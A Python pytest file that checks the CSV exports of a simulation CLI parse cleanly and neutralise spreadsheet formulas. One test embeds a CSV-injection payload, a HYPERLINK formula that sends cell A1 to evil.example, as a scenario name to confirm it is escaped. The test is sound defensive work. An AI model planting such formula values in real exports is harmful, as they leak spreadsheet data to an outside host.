"""Every CSV file the program writes reads back with Python's csv module and with
pandas as the table it is: each row has the header's fields, whatever the text in
them (commas, quotes, one replicate's method name), and a field that a spreadsheet
would take for a formula is neutralised (OWASP: prefixed with a quote)."""
import csv
import os
import shutil
import subprocess

import pandas as pd
import pytest

RG = os.environ.get("RG_CLI", "reintegra")
SRC = os.environ.get("RG_SOURCE_DIR", ".")
DATA = os.path.join(SRC, "tests", "reliability", "data")
FORMULA_START = ("=", "+", "-", "@")


def rg(*args, cwd=None):
    r = subprocess.run([RG, *args], capture_output=True, text=True, timeout=300, cwd=cwd)
    assert r.returncode == 0, (args, r.stdout, r.stderr)
    return r


def read_back(path):
    """The rows by the csv module (each as long as the header) and the pandas table."""
    with open(path, newline="") as f:
        rows = list(csv.reader(f))
    assert len(rows) > 1, path
    header = rows[0]
    for i, row in enumerate(rows[1:], start=2):
        assert len(row) == len(header), f"{path}:{i}: {len(row)} fields, header {len(header)}"
    df = pd.read_csv(path, keep_default_na=False)
    assert list(df.columns) == header
    assert len(df) == len(rows) - 1
    return rows, df


def no_formulas(rows):
    for row in rows:
        for field in row:
            assert not field.startswith(FORMULA_START) or _is_number(field), field


def _is_number(text):
    try:
        float(text)
        return True
    except ValueError:
        return False


@pytest.fixture(scope="module")
def work(tmp_path_factory):
    d = tmp_path_factory.mktemp("csv")
    for name in ("baseline.cfg", "spreadsheet_formula_in_name.cfg", "merge_without_sweep.cfg"):
        shutil.copy(os.path.join(DATA, name), d)
    return d


def test_demo_with_one_replicate(work):
    """contrasts.csv of `demo --replicates 1`: the method 'unpaired, one replicate
    (normal)' holds a comma and must not shift the columns after it."""
    rg("demo", "--scenarios", os.path.join(SRC, "scenarios"), "--agents", "300", "--months",
       "13", "--replicates", "1", "-o", str(work / "demo"), "-q", "--threads", "1")
    rows, df = read_back(work / "demo" / "contrasts.csv")
    one = df["method"] == "unpaired, one replicate (normal)"
    assert one.sum() > 0
    # Fresh Start's record groups (cleared, eligible, ineligible) do not exist in the
    # baseline: those contrasts are "unavailable", with no base estimate, no difference
    # and no replicates. Every other row is a contrast with a number.
    none = df["method"] == "unavailable"
    assert set(df.loc[~one & ~none, "method"]) <= {"paired by seed (common random numbers)"}
    assert none.sum() > 0
    assert set(df.loc[none, "group"]) <= {"record_cleared", "record_eligible", "record_ineligible"}
    assert (df.loc[none, "base_estimate"] == "").all()
    assert (df.loc[none, "difference"] == "").all()
    assert (df.loc[none, "replicates"] == 0).all()
    assert (df.loc[~none, "replicates"] == 1).all()
    assert pd.to_numeric(df.loc[~none, "difference"], errors="coerce").notna().all()
    no_formulas(rows)
    rows, df = read_back(work / "demo" / "metrics.csv")
    assert pd.to_numeric(df["estimate"], errors="coerce").notna().all()
    no_formulas(rows)


def test_a_formula_in_a_scenario_name(work):
    """A run.name that starts with '=' reaches every CSV as text, not a formula."""
    rg("run", str(work / "spreadsheet_formula_in_name.cfg"), "-q", "-o", str(work / "evil.h5"),
       "--threads", "1")
    rg("run", str(work / "baseline.cfg"), "-q", "-o", str(work / "base.h5"), "--threads", "1",
       "--set", "run.agents=600", "--set", "run.months=13")
    rg("metrics", str(work / "evil.h5"), "--groups", "--csv", str(work / "metrics.csv"))
    rg("compare", str(work / "base.h5"), str(work / "evil.h5"), "--csv",
       str(work / "contrasts.csv"))
    rg("report", str(work / "base.h5"), str(work / "evil.h5"), "-o", str(work / "r.html"),
       "--csv", str(work / "report"))
    name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    for path, column in (("metrics.csv", "scenario"), ("contrasts.csv", "scenario"),
                         ("report-metrics.csv", "scenario"),
                         ("report-contrasts.csv", "scenario")):
        rows, df = read_back(work / path)
        no_formulas(rows)
        assert ("'" + name) in set(df[column]), (path, set(df[column]))


def test_sensitivity_csv(work):
    rg("sweep", str(work / "merge_without_sweep.cfg"), "-o", str(work / "sweep"), "-q",
       "--threads", "1")
    rg("sensitivity", str(work / "sweep"), "--metric", "arrest_y1", "--csv",
       str(work / "prcc.csv"))
    rows, df = read_back(work / "prcc.csv")
    no_formulas(rows)
    assert len(df) == 2
